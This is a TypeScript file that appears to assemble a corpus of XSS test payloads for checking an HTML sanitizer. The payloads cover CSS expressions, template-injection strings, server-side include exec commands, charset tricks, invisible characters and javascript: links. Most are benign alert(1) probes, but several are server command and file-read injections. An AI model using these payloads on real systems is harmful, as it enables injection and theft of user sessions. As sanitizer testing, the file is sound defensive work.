import type { Attacks } from '../attack-classes.js';
import { PLACES, put } from './product.js';
import { SCHEME_SPELLINGS } from './spellings.js';

const CSS = [
  'width:expression(alert(1))',
  'xss:expr/*XSS*/ession(alert(1))',
  'background-image:\\0075\\0072\\006C\\0028x\\0029',
  '-moz-binding:url("//x.example/x.xml#xss")',
  "@im\\port'\\ja\\vasc\\ript:alert(1)';",
  'a[href^="/a"]{background:url(//x.example/?a)}',
  'x</style><img src=x onerror=alert(1)>',
  '&lt;/style&gt;&lt;img src=x&gt;',
  '/*# sourceMappingURL=/etc/passwd */',
];
const CSS_CONTEXTS = [
  '<style>*</style>',
  '<STYLE TYPE="text/javascript">*</STYLE>',
  '<p style="*">x</p>',
  "<a href='/a' style='*'>x</a>",
  '<td style="*">x</td>',
  '<svg><style>*</style></svg>',
  '<style><!--*--></style>',
  '<link rel=stylesheet href="data:text/css,*">',
];

const TEMPLATE_EXPRESSIONS = [
  '{{constructor.constructor("alert(1)")()}}',
  '<%= alert(1) %>',
  '<br size="&{alert(1)}">',
  'Set.constructor`alert\\x28document.domain\\x29',
  '{{<b>{{</b>}}x',
  '{<!-- -->{alert(1)}}',
  '{<a>{</a>alert(1)}}',
  '<x ng-app>{{1}}</x>',
  '<p v-html="x" :onclick="z" @click="alert(1)">w</p>',
];
const EXPRESSION_CONTEXTS = [
  '*',
  '<p>*</p>',
  '<p title="*">x</p>',
  '<pre><code>*</code></pre>',
  '<x-y>*</x-y>',
  '<img alt="*" src="/a">',
];

const BINDINGS = [
  '<xml id="xss"><i><b><img src="javas<!-- -->cript:alert(1)"></b></i></xml><span datasrc="#xss" datafld="B" dataformatas="HTML"></span>',
  '<!--#exec cmd="/bin/echo \'<SCR\'"--><!--#exec cmd="/bin/echo \'IPT SRC=//x.example></SCRIPT>\'"-->',
  '<esi:include src="//x.example"/>',
  '<%@include file="x"%><%= x %>',
  '<?= `id` ?>',
  '<cfoutput>#x#</cfoutput>',
  '<p data-bind="html: x" data-hx-get="/x" hx-on:click="alert(1)">y</p>',
  '<a href="/a" data-turbo-method="delete" data-html=true title="<img src=x onerror=alert(1)>">y</a>',
];

const CHARSETS = [
  '+ADw-script+AD4-alert(1)+ADw-/script+AD4-',
  '\u00bcscript\u00bealert(\u00a21\u00a2)\u00bc/script\u00be',
  '\uff1cscript\uff1ealert(1)\uff1c/script\uff1e',
  '\\u003cscript\\u003ealert(1)',
  '\x1b$B<script>\x1b(Balert(1)</script>',
  '\ufeff<script>alert(1)</script>',
  '\ud800<img src=x onerror=alert(1)>\udc00',
  '<\ud83dscript>alert(1)</script>',
];

/** Control characters, blanks, zero-width and direction marks, and other invisible characters, some as references. */
const INVISIBLE_CHARACTERS = (
  '\0|\x01|\x08|\v|\f|\x1a|\x1b|\x1f|\x7f|\x80|\x85|\u00a0|\u00ad|\u034f|\u061c|\u115f|\u180e|' +
  '\u200b|\u200d|\u2028|\u202e|\u2066|\u3000|\ufe0f|\ufeff|\ufff9|\uffff|\u{e0001}|&#0;|&#x80;|' +
  '&#xd800;|&#x110000;|&#xfdd0;|&#13;|&#127;'
).split('|');
const INVISIBLE_CONTEXTS = [
  '<*script>alert(1)</script>',
  '<scr*ipt>alert(1)</scr*ipt>',
  '<script*>alert(1)</script*>',
  '<img*src=x onerror=alert(1)>',
  '<img src=x on*error=alert(1)>',
  '<a href="java*script:alert(1)">x</a>',
  '<a href="*javascript:alert(1)">x</a>',
  '<a href="/*/x.example">x</a>',
  '<img src="/a" alt="*">',
  '*<svg onload=alert(1)>*',
];

const LINKS = [
  'https://%77%77%77%2E%67.example',
  'h \ntt\tp://6\t6.000146.0x7.147/',
  'http://x.example@y.example',
  'http://x.example/somecommand?a=b&c=d"e\'f<g>h`i',
  'https://x.example/a.jpg?&#34;onerror=alert(1)',
  'https://\u0445.example',
  'https://x.example/\u202egpj.exe',
  'mailto:a@b.example?body=<script>alert(1)</script>',
  'mailto:a@b.example%0d%0abcc:c@d.example',
  '#"><img src=x onerror=alert(1)>',
  '/javascript:alert(1)',
  'https:javascript:alert(1)',
  'https://javascript:alert(1)',
];
const LINK_CONTEXTS = [
  '<a href="*">x</a>',
  "<a href='*'>x</a>",
  '<img src="*">',
  '<a href=*>x</a>',
];

export const TEXT_ATTACKS: Attacks = {
  'style sheet': [
    ...put(CSS_CONTEXTS, CSS),
    ...SCHEME_SPELLINGS.map(
      (spell) => `<p style="background:url(${spell('javascript:alert(1)')})">x</p>`,
    ),
  ],
  'template expression': put(EXPRESSION_CONTEXTS, TEMPLATE_EXPRESSIONS),
  'server directive or data binding': put(PLACES, BINDINGS),
  charset: put([...PLACES, '<meta charset=utf-7>*'], CHARSETS),
  'control or invisible character': put(INVISIBLE_CONTEXTS, INVISIBLE_CHARACTERS),
  'harmful link or image': put(LINK_CONTEXTS, LINKS),
};
